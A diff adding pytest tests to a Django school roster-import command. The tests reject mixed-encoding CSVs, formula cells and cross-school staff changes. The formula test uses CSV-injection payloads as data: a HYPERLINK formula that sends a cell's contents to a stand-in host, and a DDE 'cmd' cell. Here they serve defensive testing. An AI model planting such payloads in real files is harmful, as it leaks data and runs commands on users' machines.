@@ -299,3 +299,66 @@ def test_unknown_staff_function_is_a_problem(school, tmp_path):
     with pytest.raises(CommandError):
         call_command("import-roster", "--school", "12AB", "--staff", str(staff))
     assert not Membership.objects.exists()
+
+
+# Imports that cannot be turned against the school (issue #9, finding 3).
+
+
+def test_a_file_mixing_utf8_and_windows_1252_is_refused_with_its_line(school, tmp_path):
+    path = tmp_path / "gemengd.csv"
+    path.write_bytes(
+        (HEADER + "\r\n" + ROWS[0] + "\r\n").encode("utf-8")
+        + "1005;Chloë;;Aa;01-01-2017;5;Piet Aa;piet@example.nl;;;;;\r\n".encode("cp1252")
+    )
+    with pytest.raises(CommandError, match="Regel 3"):
+        run(path)
+    assert not Pupil.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("http://x.example/?"&A1;"klik")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0"]
+)
+def test_a_formula_cell_is_refused_and_nothing_is_saved(school, tmp_path, cell):
+    row = f"1006;Mila;;{cell};01-01-2017;5;Piet Aa;piet@example.nl;+31 6 12345678;;;;"
+    with pytest.raises(CommandError, match="formule"):
+        run(write(tmp_path, [ROWS[0], row]))
+    assert not Pupil.objects.exists()
+
+
+def test_phone_numbers_and_plain_names_are_no_formulas():
+    from beeldwacht.common.tabular import looks_like_formula
+
+    assert not any(looks_like_formula(v) for v in ("+31 6 12345678", "-12", "Zoë", "", "0612"))
+    assert all(looks_like_formula(v) for v in ("=1+1", "@A1", "+A1", "-2+3*cmd"))
+
+
+def test_a_staff_import_does_not_change_someone_of_another_school(school, other_school, tmp_path):
+    """Issue #9, finding 3: one school's staff file renamed a person of another school,
+    added a membership, reported '0 changed' and wrote no audit event."""
+    ole = User.objects.create_user("ole@anderschool.nl", first_name="Ole", last_name="Ander")
+    Membership.objects.create(school=other_school, user=ole, role="teacher")
+    staff = write(
+        tmp_path,
+        ["Olaf;;Kaper;ole@anderschool.nl;Leerkracht;5"],
+        header=STAFF_HEADER,
+        name="personeel.csv",
+    )
+    from io import StringIO
+
+    def run_staff(*args):
+        out = StringIO()
+        call_command("import-roster", "--school", "12AB", "--staff", str(staff), *args, stdout=out)
+        return out.getvalue()
+
+    events = AuditEvent.objects.count()
+    with pytest.raises(CommandError):
+        run_staff()
+    ole.refresh_from_db()
+    assert (ole.first_name, ole.last_name) == ("Ole", "Ander")
+    assert not Membership.objects.filter(school=school, user=ole).exists()
+    assert AuditEvent.objects.count() == events
+    # Checked by hand: now it may, and it is counted and audited.
+    out = json.loads(run_staff("--json", "--shared-staff"))
+    assert out["staff_added"] == 1
+    assert Membership.objects.filter(school=school, user=ole).exists()
+    assert AuditEvent.objects.filter(type=AuditEvent.Type.ROSTER_IMPORTED).exists()
